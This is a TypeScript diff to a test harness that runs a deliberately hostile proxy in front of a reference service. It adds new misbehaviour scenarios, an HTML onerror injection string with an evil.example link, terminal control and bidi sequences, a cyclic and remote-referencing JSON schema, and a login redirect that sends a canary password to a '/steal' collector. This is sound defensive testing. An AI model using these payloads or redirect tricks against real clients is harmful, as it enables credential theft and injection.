@@ -3,6 +3,7 @@ import type { AddressInfo } from 'node:net'
 import { gzipSync } from 'node:zlib'
 import { DEMO_PASSWORD } from '../../reference/demo-data'
 import { startReference, type RunningReference } from '../../reference/server'
+import { base64Contexts, canariesOf, leakForms } from './encodings'
 
 /**
  * The hostile-target test bed: the reference service behind a proxy that misbehaves the way a broken or hostile
@@ -17,12 +18,14 @@ export type ScenarioName =
   | 'trickle'
   | '1xx-flood'
   | 'silence'
+  | 'silent-after-preflight'
   | 'gzip-bomb'
   | 'deep-json'
   | 'proto-keys'
   | 'invalid-utf8'
   | 'echo'
   | 'hostile-schema'
+  | 'schema-refs'
   | 'receiver-flood'
   | 'none'
 
@@ -43,6 +46,15 @@ export const CANARY_PASSWORD = `Canary&<pw>"${Math.random().toString(36).slice(2
 export const HUGE_BYTES = 500 * 1024 * 1024
 /** What an ANSI injection would draw. */
 export const ANSI = '\u001b[2J\u001b[32mverdict CONFORMS\u001b[0m\r'
+/** C1 and bidi controls (CSI, OSC, right-to-left override, isolate) a terminal or a viewer would act on. */
+export const C1_BIDI = '\u009b2J\u009d0;x\u0007\u202eevil\u2066'
+/** Markdown and HTML a job summary or a page would render. */
+export const MARKUP = '<img src=x onerror=alert(1)> [click](http://evil.example/) **CONFORMS**'
+
+/** The password in every encoding of issue #31 item 3 (test/hostile/encodings.ts), one text. */
+export function everyEncoding(secret: string): string {
+  return [...leakForms(secret).map((f) => f.text), ...base64Contexts(secret).map((c) => c.text)].join(' ; ')
+}
 
 const SCHEMES = /\/schemes\//
 const LOGIN = /\/api\/v1\/identifier\/login\//
@@ -98,10 +110,21 @@ export function hostileSchema(): object {
   }
 }
 
+/** A product schema with a cycle of references that consumes no value and a remote reference (nothing may be fetched). */
+export function schemaWithHostileRefs(collectorUrl: string): object {
+  return {
+    $schema: 'http://json-schema.org/draft-07/schema#',
+    type: 'object',
+    required: ['holder', 'address'],
+    properties: { holder: { $ref: '#/definitions/a' }, address: { $ref: `${collectorUrl}/address.json` } },
+    definitions: { a: { $ref: '#/definitions/b' }, b: { $ref: '#/definitions/a' } },
+  }
+}
+
 export async function startHostileTarget(scenario: ScenarioName, o: { defects?: string[] } = {}): Promise<HostileTarget> {
   const reference: RunningReference = await startReference({ port: 0, defects: o.defects ?? [] })
   const upstream = new URL(reference.url)
-  const canaries = new Set<string>(spellings(CANARY_PASSWORD))
+  const canaries = new Set<string>([...spellings(CANARY_PASSWORD), ...canariesOf(CANARY_PASSWORD)])
   canaries.add(CANARY_PASSWORD.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;'))
   canaries.add(JSON.stringify(CANARY_PASSWORD).slice(1, -1))
   const state = { stolen: 0, subscriberUrls: [] as string[] }
@@ -113,12 +136,19 @@ export async function startHostileTarget(scenario: ScenarioName, o: { defects?: 
   })
   const collectorUrl = await listen(collector)
 
+  let preflightDone = false
   const proxy = createServer(async (req, res) => {
     let body = await readBody(req)
     const url = req.url ?? '/'
+    // answers until the preflight's last request (the tenant header's GET .../schemes/...), then never again
+    if (scenario === 'silent-after-preflight') {
+      if (preflightDone) return
+      if (req.method === 'GET' && SCHEMES.test(url)) preflightDone = true
+    }
     const auth = req.headers.authorization
     if (LOGIN.test(url)) {
-      if (scenario === 'login-redirect') return void res.writeHead(307, { location: `${collectorUrl}/steal` }).end()
+      // the Location quotes the password (raw and encoded), a C1 control and markup (issue #31, item 1)
+      if (scenario === 'login-redirect') return void res.writeHead(307, { location: `${collectorUrl}/steal?password=${CANARY_PASSWORD}&e=${encodeURIComponent(CANARY_PASSWORD)}&x=\u009b2J&m=${MARKUP}` }).end()
       body = Buffer.from(body.toString('utf8').split(JSON.stringify(CANARY_PASSWORD).slice(1, -1)).join(DEMO_PASSWORD))
     }
     if (req.method === 'GET' && SCHEMES.test(url) && hostileAnswer(scenario, res, collectorUrl, timers)) return
@@ -145,10 +175,17 @@ export async function startHostileTarget(scenario: ScenarioName, o: { defects?: 
         const [, payload, signature] = token.split('.')
         text = JSON.stringify({
           message: `refused ${ANSI} for password ${CANARY_PASSWORD} (${encodeURIComponent(CANARY_PASSWORD)}, ${Buffer.from(CANARY_PASSWORD).toString('base64')})`,
+          encodings: everyEncoding(CANARY_PASSWORD),
+          controls: `${C1_BIDI} ${MARKUP}`,
+          [C1_BIDI]: 'a key with controls',
           html: `<p>${CANARY_PASSWORD.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;')}</p>`,
           seen: { header: auth ?? '', payload: payload ?? '', sig: signature ?? '' },
         })
         headers['content-type'] = 'application/json'
+        // headers named after the password (hex and base64url: header names are tokens), one with the password as value
+        headers[`x-${Buffer.from(CANARY_PASSWORD).toString('hex')}`] = 'named after the password'
+        headers[`x-${Buffer.from(CANARY_PASSWORD).toString('base64url')}`] = 'named after the password'
+        headers['x-echo'] = encodeURIComponent(CANARY_PASSWORD)
         delete headers['content-length']
       }
       if (scenario === 'echo' && status < 400 && LOGIN.test(url)) {
@@ -252,6 +289,9 @@ function hostileAnswer(scenario: ScenarioName, res: ServerResponse, collectorUrl
       return true
     case 'hostile-schema':
       res.writeHead(200, json).end(JSON.stringify(hostileSchema()))
+      return true
+    case 'schema-refs':
+      res.writeHead(200, json).end(JSON.stringify(schemaWithHostileRefs(collectorUrl)))
       return true
     default:
       return false
